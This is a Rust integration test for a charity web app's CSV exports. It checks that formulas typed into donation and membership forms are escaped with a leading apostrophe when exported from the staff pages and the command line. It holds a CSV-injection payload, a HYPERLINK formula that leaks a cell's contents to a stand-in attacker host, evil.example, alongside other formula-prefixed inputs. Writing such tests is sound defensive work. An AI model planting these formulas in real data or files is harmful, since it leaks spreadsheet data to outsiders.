//! CSV exports open safely in a spreadsheet: what people typed never runs as a formula
//! (SPEC §8, OWASP CSV injection), on the staff pages and on the command line alike.

use crate::helpers::{Engine, NOW, TestApp, ok};
use crate::on_both_engines;
use crate::staff::{StaffSession, add_staff};

on_both_engines!(typed_formulas_are_neutralised_in_every_export_and_figures_stay_numbers);

const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?x=\"&B2,\"receipt\")";

/// Every record of a CSV file, parsed as a spreadsheet would read it.
fn records(csv: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes());
    reader.records().map(|r| r.expect("an RFC 4180 record").iter().map(str::to_owned).collect()).collect()
}

/// Posts a public form and pays at the demo gateway's checkout.
async fn pay(app: &TestApp, path: &str, form: &[(&str, &str)]) {
    let posted = app.http.post(app.url(path)).form(form).send().await.expect("POST");
    if posted.status() != 303 {
        panic!("{path}: {} {}", posted.status(), posted.text().await.unwrap_or_default());
    }
    let checkout = posted.headers()["location"].to_str().expect("location").to_owned();
    assert_eq!(app.http.post(app.url(&format!("{checkout}/pay"))).send().await.expect("pay").status(), 303);
}

async fn typed_formulas_are_neutralised_in_every_export_and_figures_stay_numbers(engine: Engine) {
    let app = TestApp::spawn(engine, NOW).await;
    add_staff(&app.env, "finance@paper.example", "finance");
    let gift = [("amount", "10"), ("frequency", "once"), ("email", "donor@example.org"), ("name", HYPERLINK)];
    pay(&app, "/donate", &gift).await;
    let member = [
        ("name", "@SUM(1+1)"),
        ("address_line1", "+44 High Street"),
        ("town", "-Leeds"),
        ("postcode", "LS1 4AP"),
        ("email", "member@example.org"),
        ("amount", "50"),
        ("declaration", "yes"),
    ];
    pay(&app, "/join", &member).await;

    let staff = StaffSession::sign_in(&app.base, "finance@paper.example").await;
    let gifts = records(&staff.page("/staff/gifts.csv").await);
    assert_eq!(gifts[0], ["reference", "date", "amount", "refunded", "campaign", "method", "name", "email", "note"]);
    assert_eq!(gifts.len(), 2, "{gifts:?}");
    assert_eq!(gifts[1][2], "10.00", "an amount stays a number");
    assert_eq!(gifts[1][3], "0.00");
    assert_eq!(gifts[1][6], format!("'{HYPERLINK}"));
    assert_eq!(gifts[1][7], "donor@example.org");

    let on_the_page = records(&staff.page("/staff/members.csv").await);
    let on_the_command_line = records(&ok(app.cli(&["register", "export"])));
    for register in [on_the_page, on_the_command_line] {
        assert_eq!(register.len(), 2, "{register:?}");
        let row = &register[1];
        assert_eq!(row[0], "1");
        assert_eq!(row[1], "'@SUM(1+1)");
        assert_eq!(row[2], "'+44 High Street, -Leeds, LS1 4AP");
        assert_eq!(row[3], "member@example.org");
        assert_eq!((row[4].as_str(), row[5].as_str()), ("50", "50.00"));
    }
    app.running.stop().await;
}
